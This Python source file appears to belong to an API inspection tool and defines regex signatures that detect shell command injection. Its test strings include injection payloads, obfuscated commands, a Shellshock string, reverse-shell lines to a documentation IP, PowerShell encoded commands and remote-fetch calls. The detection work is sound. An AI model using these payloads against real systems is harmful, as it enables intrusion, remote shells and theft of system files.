"""Commands put into a command line of a Unix shell or of Windows."""

from __future__ import annotations

import re
from functools import lru_cache

from apitrail.inspect.attacks.families.shell_tokens import (
    COMMANDS,
    Command,
    any_of,
    by_wildcard,
    command_at,
    distinct,
    ended,
    given,
    in_own_folder,
    looks,
    looks_first,
    may_hide_command,
)
from apitrail.inspect.attacks.families.wording import fenced, has_words, prose
from apitrail.inspect.attacks.signature import LINES_READ, NOWHERE, Check, Signature
from apitrail.inspect.attacks.values import Value

LINES = 4
"""Lines of a text up to which it is no script or document that someone may store."""

_NAMES = any_of(COMMANDS)
_SEPARATOR = re.compile(r"[;|&\r\n`(]|%0[ad]|\\[nr]", re.IGNORECASE)
_LEFT_NOTHING = re.compile(r"""[\s'")(\]}\\>]*(?:[\w.*:/@%-]{0,24}[\s'")\]}\\]*)?""")
_ASSIGNS = re.compile(r"\s*(?:[=:](?![\\/])|,(?!-)|\(\s*[)\w])")
_BUILDING = frozenset(
    ("npm", "pip", "pip3", "gem", "git", "make", "docker", "kubectl", "apt-get", "java", "node", "python", "python3",
     "ruby", "php", "dotnet", "go", "systemctl", "yum", "apk")
)  # fmt: skip
"""Programs of those who build and deploy, whose names an API is given for good reasons."""
_FILTERS = frozenset(("awk", "cut", "grep", "head", "jq", "less", "more", "sort", "tail", "tr", "uniq", "wc"))
"""Programs that show less of what another one prints."""
_FRAME = re.compile(r'\s*"[^"\n]{1,200}", line \d')
_INLINE = re.compile(r"\s*-(?:e|c|r|m|enc\w*|ec|EncodedCommand)\b|\s*/c\b", re.IGNORECASE)
_PAIR = re.compile(r"[A-Za-z_]{3,}[|;,]\s?[A-Za-z_]{2,}")
"""Two fields or two kinds, as `name|id`."""
_LETTERS = re.compile(r"[A-Za-z]{2,} ?")
_FIELDS = re.compile(r"[;|,\n]+")


@lru_cache(maxsize=64)
def _stored(text: str) -> bool:
    """Whether a text is a whole script or document."""
    return text.startswith("#!") or text.count("\n", 0, LINES_READ) > LINES or fenced(text)


def _listed(text: str, separator: str) -> bool:
    """Whether a separator stands between fields of a list or the columns of a table."""
    fields = [field.strip() for field in text[:400].split(separator)]
    words = [field for field in fields if field]
    table = len(words) == 2 and separator == "|" and text.lstrip()[:1] == text.rstrip()[-1:] == "|"
    return (len(words) >= 3 or table) and all(re.fullmatch(r"[\w .:-]{1,40}", word) for word in words)


def _quoted_in_words(text: str, start: int) -> bool:
    """Whether a backtick opens or closes a piece of code inside words, as Markdown writes it."""
    if "```" in text:
        return True
    closing = text.find("`", start + 1)
    outside = text[:start] + " " + (text[closing + 1 :] if closing > 0 else "")
    return has_words(outside, 1) or text.count("`", 0, start) % 2 == 1


def _separated(value: Value, start: int, _end: int) -> float:  # noqa: PLR0911 - one answer for each kind of separator
    """A separator of commands with a command after it."""
    text = value.text
    found = _SEPARATOR.match(text, start)
    if _stored(text):
        return NOWHERE
    if not found:
        return 0.0
    sign = found[0]
    if sign == "(":
        if text[start - 1 : start] not in ("$", "<", ">"):
            return 0.0
        sign = text[start - 1] + "("
    command = command_at(text, found.end())
    if _ASSIGNS.match(command.rest) or _FRAME.match(command.rest) or prose(text):
        return 0.0
    if sign == "`":
        return 0.0 if _quoted_in_words(text, start) else _in_backticks(text, start, command)
    if not (command.known or in_own_folder(command)):
        return 0.0
    left = text[:start].rstrip("&|; $<>")
    if sign == "|" and command.name in _FILTERS and not given(command) and _is_line(left):
        return 0.0
    return _after(sign, left, text, command)


def _is_line(left: str) -> bool:
    """Whether a command with arguments stands before a pipe: somebody shows what to type, and breaks out of nothing."""
    command = command_at(left, len(left) - len(left.lstrip()))
    return (command.known or command.name in _BUILDING) and command.rest.strip() != "" and not given(command)


def _in_backticks(text: str, start: int, command: Command) -> float:
    if distinct(command) or given(command):
        return 0.9
    whole = text.strip().startswith("`") and ended(command)
    return 0.8 if whole and looks(command) and not _LETTERS.search(text[:start]) else 0.0


def _after(sign: str, left: str, text: str, command: Command) -> float:  # noqa: PLR0911 - one answer for each case
    """How sure a command after a separator is, by what stands before it."""
    clean = _LEFT_NOTHING.fullmatch(left) is not None
    if command.name in _BUILDING and not command.tricks and sign not in ("|", "$(") and not _INLINE.match(command.rest):
        return 0.0
    line_end = sign in "\r\n" or sign.lower() in ("%0a", "%0d", "\\n", "\\r")
    if given(command):
        return 0.9 if clean or not line_end else 0.75
    if sign in ("$(", "<(", ">("):
        return 0.85 if ended(command) or distinct(command) else 0.0
    if not ended(command):
        if distinct(command):
            return 0.8 if clean or not line_end else 0.0
        return 0.75 if clean and not left.strip(" '\"") and len(text) < 120 and not line_end else 0.0
    if _listed(text, sign) or _PAIR.fullmatch(text) or (left[-1:] and "=" in left and sign == "&" and not distinct(command)):
        return 0.0
    if distinct(command):
        joined = sign == "&" and re.search(r"[A-Za-z]{3,} $", text[: len(left) + 1]) and not looks_first(command)
        return 0.9 if (clean or not line_end) and not joined else 0.0
    if not clean or (line_end and text.count("\n") > 2) or "{" in left:
        return 0.0
    empty = not re.search(r"[A-Za-z]{2}", left)
    return 0.8 if (looks(command) and (empty or " " not in left.strip())) or (empty and sign != "\n") else 0.0


WORD_LIMIT = 60
"""Characters of a hidden command before the trick that hides it."""
_TO_WORD = re.compile(r".*[ \t\r\n;|&`(=<>]", re.DOTALL)


def _hidden(value: Value, start: int, _end: int) -> float:
    """A command written with tricks that a shell takes away."""
    text = value.text
    found = _TO_WORD.match(text, max(0, start - WORD_LIMIT), start)
    return _hidden_word(text, found.end() if found else max(0, start - WORD_LIMIT))


@lru_cache(maxsize=64)
def _hidden_word(text: str, at: int) -> float:
    before = text[max(0, at - 1) : at]
    if _stored(text) or before in ("=", "<") or not may_hide_command(text, at):
        return 0.0
    command = command_at(text, at)
    if not command.tricks or not (command.known or by_wildcard(command)):
        return 0.0
    if prose(text) and command.tricks < 2:
        return 0.0
    if before and before in ";|&`(\n":
        return 0.95
    return 0.85 if not before or (given(command) and not prose(text)) else 0.0


def _by_pattern(value: Value, start: int, end: int) -> float:
    """A path with wildcards in several places, by which a shell finds a program or a file."""
    text = value.text
    found = re.compile(r"(?:/[\w?*\[\].-]{1,12}){2,6}").match(text, start)
    if not found or found.end() < end - 1 or text[found.end() : found.end() + 1] in ("=", "&") or prose(text):
        return 0.0
    if re.search(r"\w$", text[max(0, start - 1) : start]) or text[max(0, start - 2) : start] == "*/":
        return 0.0
    parts = found[0].split("/")[1:]
    marked = [part for part in parts if "?" in part or "[" in part]
    if sum(part.count("?") for part in parts) < 2 and len(marked) < 2:
        return 0.0
    return 0.85


def _bare(value: Value, start: int, _end: int) -> float:
    """A value that is a command line from its beginning."""
    text = value.text
    if _stored(text) or prose(text) or (value.is_name and len(text) > 200):
        return NOWHERE
    if text[:start].strip(" \t'\""):
        return 0.0
    quoted = text.lstrip()[:1] in "'\""
    command = command_at(text, start + (len(text[start:]) - len(text[start:].lstrip(" \t+'\""))))
    if _ASSIGNS.match(command.rest) or not (command.known or in_own_folder(command)):
        return 0.0
    if re.match(r"\s*[|;&]+\s*$", command.rest):
        return 0.75
    return _quoted(command) if quoted else _bare_line(command, text)


def _quoted(command: Command) -> float:
    """How sure a command after a quote that ends a text of the application is."""
    return 0.75 if distinct(command) or (given(command) and not command.rest.lstrip().startswith(("'", '"'))) else 0.0


_PATH = re.compile(r"(?:^|\s)(?:/(?!/)[\w.*?-]+|[A-Za-z]:[\\/]|/etc/|~/\.|\$HOME|%SYSTEMROOT%)", re.IGNORECASE)
_DOWNLOADS = frozenset(["wget", "tftp", "certutil", "bitsadmin", "mshta"])


def _bare_line(command: Command, text: str) -> float:  # noqa: PLR0911 - one answer for each kind of command
    """How sure a value that begins with a command, without a separator, is."""
    rest = command.rest
    if len(text) > 600:
        return 0.0
    if _INLINE.match(rest) and command.name in COMMANDS:
        return 0.85
    if command.name in _BUILDING or command.name == "cd":
        return 0.0
    if command.name == "curl" or command.name in _DOWNLOADS:
        plain = re.match(r"\s*(?:-[A-Za-z]+\s+){0,2}['\"]?(?:https?://|\w+\.\w+)\S*\s*$", rest)
        return 0.75 if plain and "\n" not in text.strip() else 0.0
    if _PATH.match(rest) or (distinct(command) and given(command)):
        return 0.75
    if looks(command) and (_NUMBER_ONLY.match(rest) or re.match(r"\s*-[A-Za-z]", rest)):
        return 0.75
    return 0.75 if command.name in ("which", "net") and re.match(r"\s+(?:\w+)(?:\s|$)", rest) and given_words(rest) else 0.0


_NUMBER_ONLY = re.compile(r"\s*\d+(?:\.\d+)?\s*[;|&#]?\s*$")


_NET_WORDS = frozenset(("user", "view", "localgroup", "share", "use", "start", "stop", "accounts", "group"))


def given_words(rest: str) -> bool:
    """Whether the words after `which` or `net` are such that these take."""
    first, _, more = rest.strip().partition(" ")
    known = first.lower() in COMMANDS or first.lower() in _NET_WORDS
    return known and (bool(more) or first.lower() in COMMANDS or first.lower() == "view")


def _function(value: Value, start: int, _end: int) -> float:
    """A function without a name, as Bash imported it from its environment."""
    text = value.text
    body = text[text.index("{", start) + 1 :][:80]
    if "=>" in text[start : start + 12] or re.match(r"\s*(?:return|const|let|var|this|await)\b", body):
        return 0.0
    return 0.95 if re.match(r"\s*(?:[:_01a-z]{0,12}\s*[;}]|$|\S+)", body) and not prose(text) else 0.5


def _program(value: Value, start: int, _end: int) -> float:
    """A program named by the folder in which programs stand."""
    text = value.text
    if text[start : start + 1] == "(" and text[max(0, start - 1) : start] != "$":
        return 0.0
    alone = re.fullmatch(r"/(?:usr/(?:local/)?)?bin/(?:\w*sh|env|node|python[\d.]*|php|perl|ruby)", text)
    return 0.0 if alone or _stored(text) or prose(text) or _words_before(text, start) else 0.9


def _variable(value: Value, start: int, end: int) -> float:
    """A command put into a variable, which is run then."""
    text = value.text
    name = re.match(r"\W*(?:alias\s+|set\s+)?(\w+)=", text[start:end])
    return 0.9 if name and re.search(rf"[;&|\n]\s*[$%]?\{{?{name[1]}\b(?!=)", text[start : end + 40]) and not prose(text) else 0.0


def _not_prose(sure: float) -> Check:
    def check(value: Value, _start: int, _end: int) -> float:
        return NOWHERE if _stored(value.text) or prose(value.text) else sure

    return check


def _windows_flow(value: Value, start: int, _end: int) -> float:
    """`for` and `if` as Windows writes them, at the beginning of a command."""
    before = value.text[:start].strip(" \t\"'()@")
    if re.search(r"\bthen\b|[:{]\s*$|\breturn\b", value.text[start : start + 300]):
        return 0.0
    if (before and before[-1] not in "&|\n;") or (len(value.text) > 200 and prose(value.text)):
        return 0.0
    return 0.8


def _words_before(text: str, start: int) -> bool:
    return bool(re.search(r"[A-Za-z]{3,} [A-Za-z]{2,}", text[max(0, start - 60) : start]))


SIGNATURES: tuple[Signature, ...] = (
    Signature(
        "shell-separated", "rce", "shell",
        rf"[;|&\n\r`(][ \t+(!{{\"'@]*{_NAMES}\b",
        check=_separated, most_lines=LINES,
        fires=("8.8.8.8; cat /etc/passwd", "x|whoami", "report$(curl http://203.0.113.9/s)", "`id`",
        "a && ping -n 20 127.0.0.1", "1\nid", "x';ls -la;'"),
        silent=(
            "name;id;date", "R&D and sales & more", "a && b", "see `ls -al` for the list",
            "query { user {\n  id\n  type\n  host\n} }",
            "Please run npm install && npm test before you push to the main branch, or it is red.", "width=3&sort=date&type=x",
            "color: red; top: 0", "| id | name |", "text/html; charset=utf-8", "if (a || find(b)) print(c)",
        ),
    ),
    Signature(
        "shell-separated-path", "rce", "shell",
        r"[;|&\n\r`(][ \t+(!{\"'@]*(?:sudo )?(?:\.|[a-z]:)?[/\\][\w./\\-]", check=_separated, most_lines=LINES,
        fires=("x;/usr/bin/id;", "1|c:\\windows\\system32\\ping.exe -n 3 x", "a;./x.sh;/tmp/y -c"),
        silent=("a|/b/c", "see http://a.example/x;/y", "(./readme.md)", "(/usr/share/doc)"),
    ),
    Signature(
        "shell-escaped-line", "rce", "shell", rf"(?:%0[ad]|\\[nr])[ \t+]*{_NAMES}\b", check=_separated, most_lines=LINES,
        fires=("x%0aid", "1\\nid|"), silent=("C:\\names", "a\\nb", "\\n date of birth"),
    ),
    Signature(
        "shell-program", "rce", "shell", r"[;|&\r`(][ \t+(!{\"']*/?(?:usr/(?:local/)?)?s?bin/[\w.+-]", check=_program,
        most_lines=LINES,
        fires=("x|/usr/bin/id", "x|bin/ls", "a);/usr/sbin/arping"),
        silent=("the interpreter is /usr/bin/env, as ever", "path /bin/ls", "(/usr/bin/env)"),
    ),
    Signature(
        "shell-program-line", "rce", "command", r"^[ \t'\"]*/(?:usr/(?:local/)?)?s?bin/[\w.+-]", check=_program,
        most_lines=LINES,
        fires=("/bin/ls -al", "1\n/usr/bin/id", "/usr/bin/wget x"),
        silent=("The interpreter is what it says\n/usr/bin/env, as ever it was", "path /bin/ls"),
    ),
    Signature(
        "shell-hidden-command", "rce", "obfuscated",
        r"(?:[\w/.](?:''|\"\"|``|\\[\w?*]|\^[a-z]|'[\w ./]+'|\"[\w ./]+\"|\$[@*\d!]|\$\{|\$\(\)|\$[a-z]+[a-z/\\'])"
        r"|(?:^|[;|&`\s({])(?:\\[a-z]|'[a-z]{1,6}'[a-z'\"]|\"[a-z]{1,6}\"[a-z'\"]))",
        check=_hidden, most_lines=LINES,
        fires=(";c'a't /etc/passwd", "w\\ho\\am\\i", "|who$@ami", "{c''at,/etc/passwd}", "& p^ow^ersh^ell -c dir", ';c"a"t x'),
        silent=("don't 'quote' me", "C:\\new\\list\\cat", "it's a cat's life, isn't it", "I don't know what 'id' is"),
    ),
    Signature(
        "shell-blank-variable", "rce", "obfuscated", r"\$\{?IFS\b|\{[a-z]+,(?:https?:|[-/])[^\s,}]+[^}]*\}",
        check=_not_prose(0.9),
        fires=(";cat$IFS/etc/passwd", "x|ls${IFS}-la", "{ls,-la}"),
        silent=("The variable $IFS is what the shell splits words by.", "{a,b}"),
    ),
    Signature(
        "shell-wildcard-path", "rce", "obfuscated", r"/[\w\[\]*-]*\?[\w?*\[\]-]*/[\w?*\[\].-]+|/[\w-]+/[\w*]*\?[\w*]*\?[\w?*]*",
        check=_by_pattern,
        fires=("/???/c?t /???/p??s??", "/b?n/l? /", "/etc/pa??wd"), silent=("/search?q=a/b", "https://x.example/what?/or",
        "/** what?? */", "and/or?/maybe"),
    ),
    Signature(
        "shell-line", "rce", "command", rf"^[ \t+'\"]*{_NAMES}\b", check=_bare, most_lines=LINES,
        fires=("cat /etc/passwd", "ping -n 30 127.0.0.1", "ls -la /", "which netcat", "perl -e 'print 1'",
        "wget http://203.0.113.9/x.sh", '" whoami'),
        silent=("find a doctor near me", "date", "sort by name", "python app.py", "npm run build", "Cat food", "test 123",
        "sleep well", "top 10"),
    ),
    Signature(
        "shell-function", "rce", "shellshock", r"(?:^|[:=]\s?)\(\s{0,8}\)\s{0,8}\{", check=_function,
        fires=("() { :;}; /bin/id", "() { _; } >_[$($())] { id; }", "() {"), silent=("() => { return 1 }",
        "function() { return a }"),
    ),
    Signature(
        "shell-variable-command", "rce", "obfuscated",
        r"[;&|](?:alias\s+)?\w+=[^;&|\s]*[;&|\n]+\s*\$?\{?\w|^(?:alias\s+)?\w+=[^;&|\s]*[;&|\n]+\s*\$?\{?\w", check=_variable,
        fires=("&CMD=$'id';$CMD", "a=who;b=ami;$a$b", "alias x=curl&x example.org"), silent=("a=1;b=2", "cost=$5; x=3"),
    ),
    Signature(
        "shell-reverse", "rce", "reverse-shell",
        r"/dev/(?:tcp|udp)/[\w.]|\bbash\s+-i\b|\bn(?:c|cat|etcat)(?:\.\w+)?\s[^\n;|]*-\w*[ec]\s+\S"
        r"|\bmkfifo\s+/|\bpty\.spawn\b|\bsocat\s+\S*exec:",
        check=_not_prose(0.9),
        fires=("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc -lvp 4444 -e /bin/sh"), silent=("nc is a tool", "a /dev/null b"),
    ),
    Signature(
        "shell-windows", "rce", "windows",
        r"\bpowershell(?:\.exe)?\W+-\w|\bcmd(?:\.exe)?[\s,;]*/[ckr]\b|\bIEX\s*\(|\.DownloadString\s*\("
        r"|\bNet\.WebClient\b|%(?:SYSTEMROOT|COMSPEC|WINDIR)%[\\/]"
        r"|[=+@-]cmd\|'|\bStart-Process\s+\w",
        check=_not_prose(0.9),
        fires=("powershell -enc SQBFAFgA", "cmd.exe /c dir", "=cmd|' /C calc'!A0", "type %SYSTEMROOT%\\repair\\SAM"),
        silent=("PowerShell is a shell", "cmd + c copies"),
    ),
    Signature(
        "shell-windows-flow", "rce", "windows",
        r"\bfor\s+(?:/[a-z]\s+)?(?:\S+\s+)?(?:\"[^\"]*\"\s+)?%{1,2}\S+\s+in\s*\(.*\)\s*do\b"
        r"|\bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+\s*\S"
        r"|[\"(%\w][^\s=]*\s*(?:==|\b(?:equ|neq|lss|leq|gtr|geq)\b)\s*\S+\s+\S)",
        check=_windows_flow,
        fires=("for /f %x in ('dir') do echo %x", "& if exist c:\\boot.ini type c:\\boot.ini"),
        silent=("for 5% in (some) cases", "if not, why"),
    ),
    Signature(
        "shell-alias", "rce", "shell", r"^[\"'; \t&|]*alias\s+(?:[-+]\w+\+?\s+)?['\"]?[\w.-]+['\"]?=\S", 0.8,
        fires=("alias a=curl", "alias 'x'=id"), silent=("alias for a=b", "the alias a=b"),
    ),
    Signature(
        "shell-write", "rce", "redirection",
        r"^[\"'; \t&|]*>{1,2}\s*/(?:tmp|var|etc|dev|home|root)/\w|[;|&]\s*echo\s.*>{1,2}\s*[\w./]+", check=_not_prose(0.8),
        fires=(">/tmp/curl", "x;echo 1 > a.php"), silent=("a > /b", "echo a"),
    ),
)  # fmt: skip
